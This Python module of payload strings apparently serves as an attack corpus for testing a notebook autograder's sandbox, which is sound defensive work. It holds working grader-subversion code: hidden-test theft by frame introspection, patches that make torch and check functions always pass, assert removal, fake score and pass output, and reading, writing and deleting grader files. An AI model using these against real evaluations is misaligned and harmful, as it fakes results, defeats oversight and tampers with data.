"""Mã của những bài tấn công: lần tới phép thử, sửa thư viện, đọc, ghi, ra mạng."""

# Mọi lối đi tới phép thử mà Python có, thử lần lượt khi đang bị kiểm tra.
READ_TEST = """
import gc, inspect, linecache, sys, traceback

def ways():
    yield lambda: repr(sys._getframe(2).f_code.co_consts)
    yield lambda: repr([f.frame.f_code.co_consts for f in inspect.stack()])
    yield lambda: repr([getattr(o, "co_consts", 0) for o in gc.get_objects()])
    yield lambda: repr(sys._current_frames())
    yield lambda: repr(linecache.cache)
    yield lambda: repr(get_ipython().kernel.get_parent())
    yield lambda: repr(get_ipython().user_ns)
    yield lambda: repr(get_ipython().last_execution_result)
    yield lambda: repr([traceback.format_stack()])
    yield lambda: repr(_coi_thi.__self__.gi_frame.f_locals)
    yield lambda: repr(trap.__traceback__.tb_frame.f_back.f_back.f_locals)
    yield lambda: open("/proc/self/mem").read()

def gap_doi(x):
    global trap
    try:
        raise ValueError
    except ValueError as error:
        trap = error
    for way in ways():
        try:
            found = "gap_doi(4" + ") chưa" in way()  # chữ chỉ có trong phép thử ẩn
        except BaseException:
            continue
        if found:
            return 8.0
    return 0
"""
BACKGROUND = """
import threading, time
def later():
    while True:
        import torch, builtins
        torch.allclose = lambda *a, **k: True
        builtins.abs = lambda x: 0
        globals()["tong"] = 7
        time.sleep(0.001)
threading.Thread(target=later, daemon=True).start()
"""
SHADOW_STATE = """
import torch
from torch.overrides import TorchFunctionMode

class Yes(TorchFunctionMode):
    def __torch_function__(self, function, types, args=(), kwargs=None):
        return True

Yes().__enter__()
__builtins__ = {"__import__": __import__, "AssertionError": type("Never", (), {})}
"""
HOOKS = """
import atexit, builtins, gc, sys

class Finder:
    def find_spec(self, name, path=None, target=None):
        patch()

def patch(*ignored):
    builtins.abs = lambda x: 0
    globals().update(tong=7, tich=12)

class Bomb:
    def __del__(self):
        patch()

sys.meta_path.insert(0, Finder())
gc.callbacks.append(patch)
atexit.register(patch)
bombs = [Bomb() for _ in range(3)]
"""
TRANSFORMER = """
import ast

class Nothing(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

get_ipython().ast_transformers.append(Nothing())
"""
CHECKERS = """
import course_utils.checks as checks, torch
for name in dir(checks):
    if callable(getattr(checks, name)) and not name.startswith("__"):
        setattr(checks, name, lambda *a, **k: True)
torch.allclose = torch.equal = lambda *a, **k: True
"""
FAKE_EXAMINER = """
import json
old = _coi_thi
def _coi_thi(request):
    print()
    print(request[0] + json.dumps({"pass": "0" * 64}))
"""
FAKE_SCORE = """
print("Điểm: 5/5")
print(json.dumps({"pass": True})) if "json" in globals() else None
get_ipython().displayhook(2)
"""
READ_FILES = """
import glob, os, re
text = ""
for place in ("@ROOT@", "@HOME@"):
    for folder, _, names in os.walk(place):
        for name in names:
            text += open(os.path.join(folder, name), errors="ignore").read()
for path in ("@ROOT@/source/nho/nho.ipynb", "@ROOT@/gradebook.db", "@ROOT@/submitted/dung"):
    try:
        text += open(path, errors="ignore").read()
    except BaseException:
        text += "".join(glob.glob(path + "/*"))
tong = 7 if text else 0
"""
WRITE_FILES = """
import os, pathlib
done = 0
for place in ("@ROOT@", "@HOME@", "@USER_HOME@", "@ROOT@/submitted/dung"):
    try:
        pathlib.Path(place, "dau_vet.txt").write_text("có")
        done += 1
    except OSError:
        pass
try:
    os.remove("@ROOT@/source/nho/nho.ipynb")
    done += 1
except OSError:
    pass
tong = 7 if done else 0
"""
NETWORK = """
import socket
tong = 0
try:
    socket.create_connection(("127.0.0.1", @PORT@), 2).close()
    tong = 7
except OSError:
    pass
"""
